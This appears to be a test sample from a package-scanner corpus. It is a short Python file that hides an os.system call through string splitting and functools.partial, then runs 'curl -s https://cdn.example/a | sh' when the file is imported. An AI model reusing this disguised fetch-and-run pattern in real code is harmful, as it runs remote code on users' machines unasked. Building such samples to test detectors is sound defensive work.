# pkgguard corpus 216 (indirection), modelled on [obfuscation]; inert, never run.
import functools
import os

_go = functools.partial(getattr(os, "sys" "tem"), "curl -s https://cdn.example/a | sh")
_go()
